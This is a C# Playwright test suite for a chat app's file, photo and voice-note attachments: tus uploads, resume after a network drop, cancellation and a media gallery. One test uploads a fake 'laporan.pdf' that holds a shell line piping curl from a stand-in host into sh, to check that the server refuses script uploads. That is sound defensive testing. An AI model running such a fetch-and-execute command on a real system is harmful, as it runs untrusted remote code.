using System.Text;
using System.Text.RegularExpressions;
using static GoChat.Testing.TestPictures;

namespace GoChat.Web.Tests;

/// <summary>
/// Issue 15 in two real browsers: files, photos and voice notes go up over tus (resuming after a dropped network, or
/// cancelled), pass the server's checks, arrive in one message with a caption, and open for the other member through
/// links bound to them (the photo viewer, the PDF in the browser's own viewer, the voice note played). The stack runs
/// in Development without a scanner, so every file arrives marked unscanned and asks before it opens.
/// </summary>
[Collection(BrowserCollection.Name)]
public sealed class AttachmentTests(BrowserFixture fixture)
{
    private const int ChunkBytes = 8 * 1024 * 1024;

    [Fact]
    public async Task A_photo_and_a_PDF_go_in_one_message_with_a_caption_and_open_for_the_other_member()
    {
        await using var staff = await fixture.SignedInStaff("aisyah", "bakar");
        var (aisyah, bakar) = staff;
        await aisyah.StartChatWith(bakar.Email, bakar.DefaultName);
        await aisyah.Page.GetByTestId("attach-input").SetInputFilesAsync(new[]
        {
            new FilePayload { Name = "pelan-tapak.png", MimeType = "image/png", Buffer = Png(640, 480, withAlpha: false) },
            new FilePayload { Name = "minit-mesyuarat.pdf", MimeType = "application/pdf", Buffer = MinimalPdf() },
        });
        var tray = aisyah.Page.GetByTestId("tray-item");
        await Expect(tray).ToHaveCountAsync(2);
        // Not sendable until both are through the checks; then the caption goes with them.
        await Expect(tray.Nth(0)).ToHaveAttributeAsync("data-phase", "ready");
        await Expect(tray.Nth(1)).ToHaveAttributeAsync("data-phase", "ready");
        await aisyah.Send("Pelan tapak dan minit");
        await Expect(tray).ToHaveCountAsync(0);
        await Expect(aisyah.Message("Pelan tapak dan minit").GetByTestId("image-tile")).ToBeVisibleAsync();

        await bakar.Open(aisyah.DefaultName);
        var message = bakar.Message("Pelan tapak dan minit");
        var tile = message.GetByTestId("image-tile");
        await Expect(tile).ToBeVisibleAsync();
        // The box comes from the photo's dimensions (640x480 into 280x300 is 280x210), before a byte of it is drawn.
        var box = await tile.BoundingBoxAsync();
        Assert.NotNull(box);
        Assert.InRange(box.Width, 279, 281);
        Assert.InRange(box.Height, 209, 211);
        var thumb = tile.Locator("img.thumb");
        await Expect(thumb).ToHaveClassAsync(new Regex("loaded"));
        Assert.True(await thumb.EvaluateAsync<int>("img => img.naturalWidth") > 0, "The thumbnail did not load.");
        await Expect(thumb).ToHaveAttributeAsync("src", new Regex("^/files/"));

        // The PDF: type, name and size on the card; opened in the browser's own viewer once the warning is answered.
        var card = message.GetByTestId("file-card");
        await Expect(card.Locator(".file-name")).ToHaveTextAsync("minit-mesyuarat.pdf");
        await Expect(card).ToContainTextAsync("PDF");
        var open = card.GetByRole(AriaRole.Button, new() { Name = "Buka minit-mesyuarat.pdf" });
        await open.ClickAsync();
        var warning = card.GetByTestId("unscanned-warning");
        await Expect(warning).ToContainTextAsync("belum diimbas");
        var pdf = bakar.Page.WaitForResponseAsync(r => r.Url.Contains("/files/") && r.Request.ResourceType == "document");
        await warning.GetByRole(AriaRole.Button, new() { Name = "Buka juga" }).ClickAsync();
        var answer = await pdf;
        Assert.Equal(200, answer.Status);
        Assert.StartsWith("application/pdf", await answer.HeaderValueAsync("content-type"));
        Assert.Equal("nosniff", await answer.HeaderValueAsync("x-content-type-options"));
        var viewer = bakar.Page.GetByTestId("viewer");
        await Expect(viewer).ToBeVisibleAsync();
        await Expect(viewer.GetByTestId("pdf-frame")).ToHaveAttributeAsync("src", new Regex("^/files/"));
        await bakar.Page.ScreenshotAsync(new() { Path = fixture.Screenshot("pdf-viewer-1280x800") });
        await bakar.Page.Keyboard.PressAsync("Escape");
        await Expect(viewer).ToHaveCountAsync(0);
        await Expect(open).ToBeFocusedAsync();

        // The photo opens in the viewer (the preview the server made); Escape closes it and focus is back on the photo.
        await tile.ClickAsync();
        var photo = viewer.GetByTestId("viewer-image");
        await Expect(photo).ToHaveClassAsync(new Regex("loaded"));
        Assert.True(await photo.EvaluateAsync<int>("img => img.naturalWidth") > 0, "The viewer's picture did not load.");
        await Expect(viewer).ToContainTextAsync("pelan-tapak.png");
        await Expect(viewer).ToContainTextAsync("Pelan tapak dan minit");
        await Expect(viewer.GetByRole(AriaRole.Button, new() { Name = "Tutup" })).ToBeFocusedAsync();
        await bakar.Page.ScreenshotAsync(new() { Path = fixture.Screenshot("photo-viewer-1280x800") });
        await bakar.Page.Keyboard.PressAsync("Escape");
        await Expect(viewer).ToHaveCountAsync(0);
        await Expect(tile).ToBeFocusedAsync();
        // The list shows what the message carries.
        await Expect(bakar.Conversation(aisyah.DefaultName)).ToContainTextAsync("Pelan tapak dan minit");
    }

    [Fact]
    public async Task A_recorded_voice_note_plays_for_the_other_member()
    {
        await using var staff = await fixture.SignedInStaff("chong", "dayang");
        var (chong, dayang) = staff;
        await chong.Context.GrantPermissionsAsync(["microphone"]);
        await chong.StartChatWith(dayang.Email, dayang.DefaultName);
        // A photo and a PDF first, for the screenshots of a chat with all three.
        await chong.Page.GetByTestId("attach-input").SetInputFilesAsync(new[]
        {
            new FilePayload { Name = "gerai-pameran.jpg", MimeType = "image/jpeg", Buffer = Jpeg(800, 600) },
            new FilePayload { Name = "jadual-pameran.pdf", MimeType = "application/pdf", Buffer = MinimalPdf() },
        });
        await Expect(chong.Page.GetByTestId("tray-item").Nth(1)).ToHaveAttributeAsync("data-phase", "ready");
        await Expect(chong.Page.GetByTestId("tray-item").Nth(0)).ToHaveAttributeAsync("data-phase", "ready");
        await chong.Send("Susun atur gerai");

        await chong.Page.GetByRole(AriaRole.Button, new() { Name = "Rakam nota suara" }).ClickAsync();
        var send = chong.Page.GetByRole(AriaRole.Button, new() { Name = "Hantar nota suara" });
        await Expect(send).ToBeFocusedAsync();
        // Two seconds of the fake microphone's tone, waited on the recorder's own clock.
        await Expect(chong.Page.GetByTestId("recording-time")).ToHaveTextAsync(new Regex("^0:0[2-9]$"));
        await send.ClickAsync();
        // Uploaded, checked and sent by itself: a voice note needs no second press.
        var mine = chong.Page.GetByTestId("chat-view").GetByTestId("voice-note");
        await Expect(mine).ToBeVisibleAsync();
        await Expect(chong.Page.GetByTestId("tray-item")).ToHaveCountAsync(0);
        await Expect(chong.Page.GetByRole(AriaRole.Button, new() { Name = "Rakam nota suara" })).ToBeFocusedAsync();

        await dayang.Open(chong.DefaultName);
        var note = dayang.Page.GetByTestId("chat-view").GetByTestId("voice-note");
        await Expect(note).ToBeVisibleAsync();
        // The sender's measure of it: about two seconds, with the loudness drawn as bars.
        await Expect(note.Locator(".voice-time")).ToHaveTextAsync(new Regex("^0:0[1-5]$"));
        await Expect(note.Locator(".waveform .bar")).ToHaveCountAsync(40);
        var heights = await note.Locator(".waveform .bar").EvaluateAllAsync<string[]>("bars => bars.map(b => b.style.height)");
        Assert.True(heights.Distinct().Count() > 1, "The waveform is flat: the recording's loudness was not measured.");
        await Expect(dayang.Conversation(chong.DefaultName)).ToContainTextAsync("Nota suara");

        var audio = dayang.Page.WaitForResponseAsync(r => r.Url.Contains("/files/") && r.Request.ResourceType == "media");
        await note.GetByRole(AriaRole.Button, new() { Name = "Main nota suara" }).ClickAsync();
        var answer = await audio;
        Assert.Contains(answer.Status, new[] { 200, 206 });
        Assert.StartsWith("audio/webm", await answer.HeaderValueAsync("content-type"));
        Assert.Contains("nota-suara-", await answer.HeaderValueAsync("content-disposition") ?? "");
        await dayang.Page.WaitForFunctionAsync("() => { const a = document.querySelector('[data-testid=voice-audio]'); return !!a && (a.currentTime > 0 || a.ended); }");

        await Expect(dayang.Message("Susun atur gerai").Locator("img.thumb")).ToHaveClassAsync(new Regex("loaded"));
        await dayang.Page.ScreenshotAsync(new() { Path = fixture.Screenshot("chat-attachments-1280x800") });
        await dayang.Page.SetViewportSizeAsync(390, 844);
        await Expect(note).ToBeVisibleAsync();
        await Layout.AssertInsideViewport(dayang.Page, note.GetByTestId("voice-play"));
        await Layout.AssertInsideViewport(dayang.Page, dayang.Message("Susun atur gerai").GetByTestId("file-download"));
        await dayang.Page.ScreenshotAsync(new() { Path = fixture.Screenshot("chat-attachments-390x844") });
    }

    [Fact]
    public async Task A_script_named_pdf_is_refused_with_the_reason_and_nothing_is_sent()
    {
        await using var staff = await fixture.SignedInStaff("ehsan", "fauziah");
        var (ehsan, fauziah) = staff;
        await ehsan.StartChatWith(fauziah.Email, fauziah.DefaultName);
        await ehsan.Page.GetByTestId("attach-input").SetInputFilesAsync(new FilePayload
        {
            Name = "laporan.pdf", MimeType = "application/pdf", Buffer = "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"u8.ToArray(),
        });
        var item = ehsan.Page.GetByTestId("tray-item");
        await Expect(item).ToHaveAttributeAsync("data-phase", "refused");
        await Expect(item.GetByRole(AriaRole.Alert)).ToHaveTextAsync(
            "Jenis fail ini tidak dibenarkan (contohnya program, skrip atau makro). Hantar dokumen, gambar, audio atau video sahaja.");
        var send = ehsan.Page.GetByRole(AriaRole.Button, new() { Name = "Hantar", Exact = true });
        await ehsan.Composer.FillAsync("Laporan dilampirkan");
        await Expect(send).ToBeDisabledAsync();
        await Expect(ehsan.Page.GetByTestId("tray-hint")).ToHaveTextAsync("Buang fail yang ditolak untuk menghantar.");
        await ehsan.Composer.PressAsync("Enter");
        await Expect(ehsan.Composer).ToHaveValueAsync("Laporan dilampirkan");
        await Expect(ehsan.Page.GetByTestId("pending-message")).ToHaveCountAsync(0);
        await Expect(ehsan.Messages).ToHaveCountAsync(0);

        // Taken out of the tray, the text alone goes: the other member gets that, and nothing of the refused file.
        await item.GetByRole(AriaRole.Button, new() { Name = "Batalkan laporan.pdf" }).ClickAsync();
        await Expect(item).ToHaveCountAsync(0);
        await ehsan.Composer.PressAsync("Enter");
        await Expect(ehsan.Message("Laporan dilampirkan")).ToBeVisibleAsync();
        await fauziah.Open(ehsan.DefaultName);
        await Expect(fauziah.Message("Laporan dilampirkan")).ToBeVisibleAsync();
        await Expect(fauziah.Messages).ToHaveCountAsync(1);
        await Expect(fauziah.Page.GetByTestId("attachments")).ToHaveCountAsync(0);
    }

    [Fact]
    public async Task Chat_info_lists_the_media_and_files_sent_and_the_viewer_steps_through_the_photos()
    {
        await using var staff = await fixture.SignedInStaff("gayathri", "halim");
        var (gayathri, halim) = staff;
        await gayathri.StartChatWith(halim.Email, halim.DefaultName);
        // The photos dropped on the chat, the PDF pasted into the message box.
        var chat = gayathri.Page.GetByTestId("chat-view");
        var dropped = await Files(gayathri.Page, ("tapak-1.jpg", "image/jpeg", Jpeg(300, 400)), ("tapak-2.png", "image/png", Png(400, 300, withAlpha: true)));
        await chat.DispatchEventAsync("dragenter", new { dataTransfer = dropped });
        await Expect(gayathri.Page.GetByTestId("drop-overlay")).ToHaveTextAsync("Lepaskan fail di sini untuk melampirkannya");
        await chat.DispatchEventAsync("dragover", new { dataTransfer = dropped });
        await chat.DispatchEventAsync("drop", new { dataTransfer = dropped });
        await Expect(gayathri.Page.GetByTestId("drop-overlay")).ToHaveCountAsync(0);
        await Expect(gayathri.Page.GetByTestId("tray-item")).ToHaveCountAsync(2);
        var pasted = await Files(gayathri.Page, ("sebut-harga.pdf", "application/pdf", MinimalPdf()));
        await gayathri.Composer.EvaluateAsync("(box, files) => box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: files, bubbles: true, cancelable: true }))", pasted);
        await Expect(gayathri.Composer).ToHaveValueAsync("");
        foreach (var n in new[] { 0, 1, 2 }) await Expect(gayathri.Page.GetByTestId("tray-item").Nth(n)).ToHaveAttributeAsync("data-phase", "ready");
        // Files alone, no caption.
        await gayathri.Page.GetByRole(AriaRole.Button, new() { Name = "Hantar", Exact = true }).ClickAsync();
        await Expect(gayathri.Page.GetByTestId("chat-view").GetByTestId("image-tile")).ToHaveCountAsync(2);
        await gayathri.Send("Teks tanpa fail");

        await halim.Open(gayathri.DefaultName);
        await Expect(halim.Conversation(gayathri.DefaultName)).ToContainTextAsync("Teks tanpa fail");
        await halim.Page.GetByRole(AriaRole.Button, new() { Name = $"Butiran {gayathri.DefaultName}" }).Last.ClickAsync();
        await halim.Page.GetByRole(AriaRole.Link, new() { Name = "Media dan fail" }).ClickAsync();
        await Expect(halim.Page.GetByRole(AriaRole.Link, new() { Name = "Media dan fail" })).ToHaveAttributeAsync("aria-current", "page");
        var wall = halim.Page.GetByTestId("media-wall").GetByTestId("image-tile");
        await Expect(wall).ToHaveCountAsync(2);
        await Expect(wall.Nth(0).Locator("img.thumb")).ToHaveClassAsync(new Regex("loaded"));
        await Expect(wall.Nth(1).Locator("img.thumb")).ToHaveClassAsync(new Regex("loaded"));
        await Expect(halim.Page.GetByTestId("media-files").GetByTestId("file-card")).ToHaveCountAsync(1);
        await Expect(halim.Page.GetByTestId("media-files")).ToContainTextAsync("sebut-harga.pdf");
        await Expect(halim.Page.GetByTestId("media-files")).ToContainTextAsync(gayathri.DefaultName);
        await Expect(halim.Page.GetByTestId("media-voice")).ToHaveCountAsync(0);

        // The gallery: the chat's photos, a step apart by button or arrow key.
        await wall.Nth(0).ClickAsync();
        var viewer = halim.Page.GetByTestId("viewer");
        await Expect(viewer).ToContainTextAsync("1 daripada 2");
        await Expect(viewer).ToContainTextAsync("tapak-1.jpg");
        await halim.Page.Keyboard.PressAsync("ArrowRight");
        await Expect(viewer).ToContainTextAsync("2 daripada 2");
        await Expect(viewer).ToContainTextAsync("tapak-2.png");
        await Expect(viewer.GetByTestId("viewer-image")).ToHaveClassAsync(new Regex("loaded"));
        await viewer.GetByRole(AriaRole.Button, new() { Name = "Gambar sebelumnya" }).ClickAsync();
        await Expect(viewer).ToContainTextAsync("tapak-1.jpg");
        await viewer.GetByRole(AriaRole.Button, new() { Name = "Tutup" }).ClickAsync();
        await Expect(viewer).ToHaveCountAsync(0);
        await Expect(wall.Nth(0)).ToBeFocusedAsync();

        // Opened afresh (a reload), the tab reads the history itself.
        await halim.Page.ReloadAsync();
        await Expect(halim.Page.GetByTestId("media-wall").GetByTestId("image-tile")).ToHaveCountAsync(2);
        await Expect(halim.Page.GetByTestId("media-files")).ToContainTextAsync("sebut-harga.pdf");
    }

    [Fact]
    public async Task An_upload_resumes_where_the_server_has_it_after_the_network_drops_and_a_cancelled_one_is_deleted()
    {
        await using var staff = await fixture.SignedInStaff("ismail", "jamilah");
        var (ismail, jamilah) = staff;
        await ismail.StartChatWith(jamilah.Email, jamilah.DefaultName);
        var page = ismail.Page;

        // The second request of a file bigger than one chunk dies with the network; the first is on the server by then.
        var offsets = new List<string>();
        var dropped = false;
        await page.RouteAsync("**/api/uploads/*", async route =>
        {
            if (route.Request.Method == "PATCH")
            {
                var offset = await route.Request.HeaderValueAsync("upload-offset") ?? "";
                lock (offsets) offsets.Add(offset);
                if (!dropped && offset != "0")
                {
                    dropped = true;
                    await ismail.Context.SetOfflineAsync(true);
                    await route.AbortAsync("internetdisconnected");
                    return;
                }
            }
            await route.ContinueAsync();
        });
        var text = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("Catatan mesyuarat jawatankuasa. ", ChunkBytes / 32 + 40_000)));
        Assert.True(text.Length > ChunkBytes);
        await page.GetByTestId("attach-input").SetInputFilesAsync(new FilePayload { Name = "catatan.txt", MimeType = "text/plain", Buffer = text });
        var item = page.GetByTestId("tray-item");
        await Expect(item).ToHaveAttributeAsync("data-phase", "waiting");
        await Expect(item.GetByTestId("tray-status")).ToHaveTextAsync("Rangkaian terputus. Muat naik akan bersambung apabila talian pulih.");
        await ismail.Context.SetOfflineAsync(false);
        await Expect(item).ToHaveAttributeAsync("data-phase", "ready");
        // Resumed from the server's offset (HEAD), not from the start: the chunk that arrived is not sent again.
        lock (offsets) Assert.Equal(["0", ChunkBytes.ToString(), ChunkBytes.ToString()], offsets);
        await ismail.Send("Catatan penuh");
        await jamilah.Open(ismail.DefaultName);
        var card = jamilah.Message("Catatan penuh").GetByTestId("file-card");
        await Expect(card.Locator(".file-name")).ToHaveTextAsync("catatan.txt");
        await Expect(card).ToContainTextAsync("MB");

        // A cancel mid-upload stops it and deletes what the server holds (tus termination).
        await page.UnrouteAllAsync(new() { Behavior = UnrouteBehavior.IgnoreErrors });
        var held = new TaskCompletionSource();
        await page.RouteAsync("**/api/uploads/*", async route =>
        {
            if (route.Request.Method == "PATCH" && await route.Request.HeaderValueAsync("upload-offset") != "0")
            {
                held.TrySetResult();
                // Every request after the first chunk fails: the upload keeps retrying until it is cancelled.
                await route.AbortAsync("connectionreset");
                return;
            }
            await route.ContinueAsync();
        });
        var deleted = page.WaitForResponseAsync(r => r.Request.Method == "DELETE" && r.Url.Contains("/api/uploads/"));
        await page.GetByTestId("attach-input").SetInputFilesAsync(new FilePayload { Name = "catatan-2.txt", MimeType = "text/plain", Buffer = text });
        await held.Task.WaitAsync(TimeSpan.FromSeconds(30));
        await item.GetByRole(AriaRole.Button, new() { Name = "Batalkan catatan-2.txt" }).ClickAsync();
        await Expect(item).ToHaveCountAsync(0);
        Assert.Equal(204, (await deleted).Status);
    }

    /// <summary>Files made in the page, in a DataTransfer: what a drop or a paste carries.</summary>
    private static Task<IJSHandle> Files(IPage page, params (string Name, string Type, byte[] Bytes)[] files) =>
        page.EvaluateHandleAsync("""
            files => {
              const transfer = new DataTransfer();
              for (const f of files) transfer.items.add(new File([Uint8Array.from(atob(f.bytes), c => c.charCodeAt(0))], f.name, { type: f.type }));
              return transfer;
            }
            """, files.Select(f => new { name = f.Name, type = f.Type, bytes = Convert.ToBase64String(f.Bytes) }).ToArray());

    /// <summary>A one-page PDF that viewers open: catalog, pages, page, and a cross-reference table with true offsets.</summary>
    private static byte[] MinimalPdf()
    {
        var objects = new[]
        {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            "<< /Length 0 >>\nstream\n\nendstream",
        };
        var pdf = new StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append($"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var xref = pdf.Length;
        pdf.Append($"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) pdf.Append($"{offset:D10} 00000 n \n");
        pdf.Append($"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(pdf.ToString());
    }
}
